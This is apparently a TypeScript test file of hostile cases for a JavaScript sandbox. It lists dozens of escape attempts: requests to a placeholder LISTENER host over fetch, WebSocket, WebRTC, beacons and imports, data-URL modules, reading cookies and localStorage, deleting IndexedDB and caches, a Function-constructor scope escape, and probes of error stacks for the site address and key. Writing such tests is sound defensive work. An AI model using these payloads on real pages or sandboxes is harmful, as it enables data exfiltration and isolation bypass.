import { type HostileCase, REFUSED } from '../case.ts';

/** Ways out. Each is tried as an expression; whatever it gives or throws, nothing may arrive anywhere. */
const DOORS: Readonly<Record<string, string>> = {
	fetch: `await fetch('http://LISTENER/')`,
	'fetch with keepalive': `await fetch('http://LISTENER/', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`,
	XMLHttpRequest: `(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://LISTENER/', false); x.send(); })()`,
	WebSocket: `new WebSocket('ws://LISTENER/')`,
	WebSocketStream: `new g.WebSocketStream('ws://LISTENER/')`,
	EventSource: `new EventSource('http://LISTENER/')`,
	WebTransport: `await new g.WebTransport('https://LISTENER/').ready`,
	WebRTC: `await (async () => { const c = new g.RTCPeerConnection({ iceServers: [{ urls: 'stun:LISTENER' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })()`,
	sendBeacon: `g.navigator.sendBeacon('http://LISTENER/', 'x')`,
	'an image': `Object.assign(new g.Image(), { src: 'http://LISTENER/' })`,
	'a font': `await new g.FontFace('x', 'url(http://LISTENER/)').load()`,
	'an image bitmap': `await g.createImageBitmap('http://LISTENER/')`,
	'an import of an address': `await import('http://LISTENER/x.js')`,
	'an import of a computed address': `await import(['http://LISTENER', 'x.js'].join('/'))`,
	// A module may be made of data: it is code in the same scope, behind the same walls.
	'an import from a module made of data': `await import(['data:text/javascript', 'await import("http://LISTENER/x.js"); console.log("escaped")'].join(','))`,
	'fetch from a module made of data': `await import(['data:text/javascript', 'await fetch("http://LISTENER/"); console.log("escaped")'].join(','))`,
	importScripts: `importScripts('http://LISTENER/x.js')`,
	'a Worker at an address': `new Worker('http://LISTENER/x.js')`,
	'a Worker made of data': `new Worker('data:text/javascript,postMessage(1)')`,
	'a shared worker': `new g.SharedWorker('http://LISTENER/x.js')`,
	'a service worker': `await g.navigator.serviceWorker.register('/x.js')`,
	'a new location': `g.location.href = 'http://LISTENER/'`,
	'location.assign': `g.location.assign('http://LISTENER/')`,
	'window.open': `g.open('http://LISTENER/')`,
	'the top window': `g.top.location = 'http://LISTENER/'`,
	'the parent window': `g.parent.postMessage('escaped', '*')`,
	'the opener': `g.opener.location = 'http://LISTENER/'`,
	'a form': `g.document.createElement('form').submit()`,
	'a link element': `g.document.head.append(Object.assign(g.document.createElement('link'), { rel: 'stylesheet', href: 'http://LISTENER/' }))`,
	'a meta element': `g.document.write('<meta http-equiv=refresh content="0;url=http://LISTENER/">')`,
	history: `g.history.pushState(null, '', '/escaped')`,
	'document.cookie': `console.log(g.document.cookie)`,
	cookieStore: `console.log(await g.cookieStore.getAll())`,
	localStorage: `console.log(localStorage.getItem('draft'))`,
	sessionStorage: `console.log(sessionStorage.getItem('draft'))`,
	indexedDB: `g.indexedDB.deleteDatabase('drafts')`,
	caches: `await caches.delete('drafts')`,
	'the file system': `await g.navigator.storage.getDirectory()`,
	locks: `await g.navigator.locks.request('drafts', () => new Promise(() => {}))`,
	BroadcastChannel: `new BroadcastChannel('x').postMessage('escaped')`,
	Notification: `new g.Notification('escaped')`,
	'the clipboard': `await g.navigator.clipboard.writeText('escaped')`,
	geolocation: `g.navigator.geolocation.getCurrentPosition(() => console.log('escaped'))`,
	permissions: `await g.navigator.permissions.query({ name: 'camera' })`,
	alert: `g.alert('escaped')`,
	reportError: `g.reportError(new Error('escaped'))`,
	'streaming WebAssembly': `await g.WebAssembly.instantiateStreaming(fetch('http://LISTENER/'))`,
	WebAssembly: `new g.WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && console.log('escaped')`,
	SharedArrayBuffer: `new SharedArrayBuffer(8)`,
	MessageChannel: `new MessageChannel().port1.postMessage('escaped')`,
	'URLs of blobs': `URL.createObjectURL(new g.Blob(['escaped']))`,
	close: `g.close()`,
	'a debugger': `(() => { debugger; })()`,
	'the global scope of another function': `new (async () => {}).constructor('return this')().fetch('http://LISTENER/')`,
	'a getter of the scope’s prototypes': `(() => { for (let o = Object.getPrototypeOf(g); o; o = Object.getPrototypeOf(o)) for (const name of Object.getOwnPropertyNames(o)) if (/fetch|navigator|location|indexedDB|origin|caches|crypto/.test(name)) console.log('escaped', name); })()`,
	'a stream sent elsewhere': `structuredClone(new ReadableStream(), { transfer: [new ReadableStream()] })`,
	'trusted types': `g.trustedTypes.createPolicy('x', {})`,
	scheduler: `await g.scheduler.postTask(() => console.log('escaped'))`,
	'a compression stream': `new g.CompressionStream('gzip')`,
	'the canvas': `new g.OffscreenCanvas(1, 1).getContext('webgl')`,
	'the graphics processor': `await g.navigator.gpu.requestAdapter()`,
	'USB, HID and serial': `await Promise.any([g.navigator.usb.getDevices(), g.navigator.hid.getDevices(), g.navigator.serial.getPorts()])`,
};

/** Doors at which the browser’s own policy refuses, and says so. */
const REFUSED_BY_POLICY = /^(an import|a Worker|the global scope of another function)/;

const door = (use: string): string => `const g = globalThis;
try { const result = ${use}; if (/LISTENER|belongs-to|escaped/.test(String(result))) console.log('escaped', result); } catch {}
await new Promise((resolve) => setTimeout(resolve, 50));
console.log('shut');`;

export const ESCAPES: readonly HostileCase[] = [
	...Object.entries(DOORS).map(
		([name, use]): HostileCase => ({
			name: `tries ${name}`,
			program: use.includes(' = ') ? door(`(${use})`) : door(use),
			unprepared: true,
			options: { clock: 'real' },
			ending: 'finished',
			prints: 'shut\n',
			...(REFUSED_BY_POLICY.test(name) && { complaints: REFUSED }),
			onlyInPage: true,
		}),
	),
	{
		name: 'reads the address of the site from its errors',
		unprepared: true,
		program: `const seen = [new Error('x').stack, import.meta.url, String(globalThis.origin), String(globalThis.location)];\ntry { null.x; } catch (e) { seen.push(e.stack); }\nfor (const text of seen) if (/https?:|127\\.0\\.0\\.1|localhost/.test(String(text))) console.log('escaped', text);`,
		ending: 'finished',
		onlyInPage: true,
	},
	{
		name: 'looks for the text of its module, and the key in it',
		// A module that asks for `import.meta` has an address without text; this one's address is its text.
		unprepared: true,
		program: `const seen = [new Error('x').stack, String(globalThis.location)];\ntry { null.x; } catch (e) { seen.push(...Object.getOwnPropertyNames(e).map((name) => e[name])); }\nfunction deep() { deep(); }\ntry { deep(); } catch (e) { seen.push(e.stack); }\nawait import('./nowhere.js').catch((e) => seen.push(e.message, e.stack));\nfor (const text of seen) if (/data:|sourceURL|yieldpoint/.test(String(text))) console.log('escaped', text);`,
		ending: 'finished',
		onlyInPage: true,
	},
];
